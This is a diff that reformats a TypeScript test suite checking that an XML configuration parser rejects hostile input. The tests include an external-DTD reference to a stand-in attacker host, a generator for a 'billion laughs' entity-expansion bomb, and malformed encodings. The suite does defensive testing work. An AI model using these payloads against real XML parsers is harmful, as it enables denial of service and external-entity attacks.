@@ -5,10 +5,14 @@ import type { ProblemCode } from '../problems/codes.js';
 
 const NS = 'https://vigie.dev/schemas/client/v1alpha1';
 
-function firstProblem(input: Uint8Array | string): { code: ProblemCode; line: number; column: number; message: string } {
+function firstProblem(input: Uint8Array | string): {
+  code: ProblemCode;
+  line: number;
+  column: number;
+  message: string;
+} {
   const result = parseClientConfig(input);
   assert.equal(result.ok, false, 'hostile input must be refused');
-  if (result.ok) throw new Error('unreachable');
   const [problem] = result.problems;
   assert.ok(problem);
   return problem;
@@ -24,20 +28,26 @@ describe('hostile XML is refused with one clear problem', () => {
   });
 
   it('refuses external DTDs', () => {
-    const problem = firstProblem(`<!DOCTYPE client SYSTEM "http://attacker.example/evil.dtd">\n<client xmlns="${NS}"/>`);
+    const problem = firstProblem(
+      `<!DOCTYPE client SYSTEM "http://attacker.example/evil.dtd">\n<client xmlns="${NS}"/>`,
+    );
     assert.equal(problem.code, 'VIGIE_E_XML_DOCTYPE');
   });
 
   it('refuses entity expansion bombs before expanding anything', () => {
     const levels = Array.from({ length: 10 }, (_, i) =>
-      i === 0 ? '<!ENTITY lol0 "lol">' : `<!ENTITY lol${String(i)} "${`&lol${String(i - 1)};`.repeat(10)}">`,
+      i === 0
+        ? '<!ENTITY lol0 "lol">'
+        : `<!ENTITY lol${String(i)} "${`&lol${String(i - 1)};`.repeat(10)}">`,
     ).join('\n');
     const bomb = `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n${levels}\n]>\n<client xmlns="${NS}" name="&lol9;"/>`;
     assert.equal(firstProblem(bomb).code, 'VIGIE_E_XML_DOCTYPE');
   });
 
   it('refuses undeclared entities', () => {
-    const problem = firstProblem(`<client xmlns="${NS}" id="a" name="caf&eacute;" timezone="UTC"/>`);
+    const problem = firstProblem(
+      `<client xmlns="${NS}" id="a" name="caf&eacute;" timezone="UTC"/>`,
+    );
     assert.equal(problem.code, 'VIGIE_E_XML_ENTITY');
   });
 
@@ -79,22 +89,36 @@ describe('hostile XML is refused with one clear problem', () => {
 
   it('refuses overlong UTF-8 encodings and surrogates', () => {
     assert.equal(firstProblem(new Uint8Array([0x3c, 0xc0, 0xbc])).code, 'VIGIE_E_INPUT_ENCODING');
-    assert.equal(firstProblem(new Uint8Array([0x3c, 0xed, 0xa0, 0x80])).code, 'VIGIE_E_INPUT_ENCODING');
+    assert.equal(
+      firstProblem(new Uint8Array([0x3c, 0xed, 0xa0, 0x80])).code,
+      'VIGIE_E_INPUT_ENCODING',
+    );
   });
 
   it('refuses UTF-16 and non-UTF-8 declarations', () => {
-    assert.equal(firstProblem(new Uint8Array([0xff, 0xfe, 0x3c, 0x00])).code, 'VIGIE_E_INPUT_ENCODING');
-    assert.equal(firstProblem(`<?xml version="1.0" encoding="ISO-8859-1"?><client/>`).code, 'VIGIE_E_INPUT_ENCODING');
+    assert.equal(
+      firstProblem(new Uint8Array([0xff, 0xfe, 0x3c, 0x00])).code,
+      'VIGIE_E_INPUT_ENCODING',
+    );
+    assert.equal(
+      firstProblem(`<?xml version="1.0" encoding="ISO-8859-1"?><client/>`).code,
+      'VIGIE_E_INPUT_ENCODING',
+    );
   });
 
   it('refuses binary junk', () => {
     const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00]);
     assert.equal(firstProblem(png).code, 'VIGIE_E_INPUT_BINARY');
-    assert.equal(firstProblem(new Uint8Array([0x3c, 0x61, 0x00, 0x3e])).code, 'VIGIE_E_INPUT_BINARY');
+    assert.equal(
+      firstProblem(new Uint8Array([0x3c, 0x61, 0x00, 0x3e])).code,
+      'VIGIE_E_INPUT_BINARY',
+    );
   });
 
   it('reports syntax errors at their position', () => {
-    const problem = firstProblem(`<client xmlns="${NS}">\n  <contact name="a" email="b>\n</client>`);
+    const problem = firstProblem(
+      `<client xmlns="${NS}">\n  <contact name="a" email="b>\n</client>`,
+    );
     assert.equal(problem.code, 'VIGIE_E_XML_SYNTAX');
     assert.equal(problem.line >= 2, true);
   });
@@ -108,6 +132,6 @@ describe('hostile XML is refused with one clear problem', () => {
     const doc = new TextEncoder().encode(`\uFEFF<client xmlns="${NS}"/>`);
     const result = parseClientConfig(doc);
     assert.equal(result.ok, false);
-    if (!result.ok) assert.notEqual(result.problems[0]?.code, 'VIGIE_E_INPUT_ENCODING');
+    assert.notEqual(result.problems[0]?.code, 'VIGIE_E_INPUT_ENCODING');
   });
 });
